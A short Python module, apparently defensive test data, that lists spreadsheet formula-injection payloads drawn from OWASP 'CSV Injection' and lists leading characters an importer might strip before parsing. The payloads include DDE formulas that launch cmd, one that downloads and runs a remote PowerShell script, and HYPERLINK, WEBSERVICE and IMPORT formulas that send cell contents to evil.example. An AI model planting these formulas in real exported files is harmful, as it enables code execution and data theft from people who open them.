"""What is known to act when a spreadsheet opens it; from OWASP "CSV Injection" and lists of payloads."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: click here")',
    '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
    '=IMPORTXML(CONCAT("http://evil.example/",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTDATA("http://evil.example/?d="&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=1+1";=1+1',
    "=1+1,=2+2",
    "=1+1\r\n=2+2",
    "@A1",
    "+1",
    "-1",
    "--1",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d1",
    "\uff20SUM(1)",
)

BEGINNINGS = (
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\x07",
    "\xa0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u202e",
    '"',
    ' \t\0"',
)
"""What an importer may strip before it looks for a formula."""


def read_cell(cell):
    """The text of a cell, as docs/export.md says how to read it."""
    return cell.removeprefix("'")
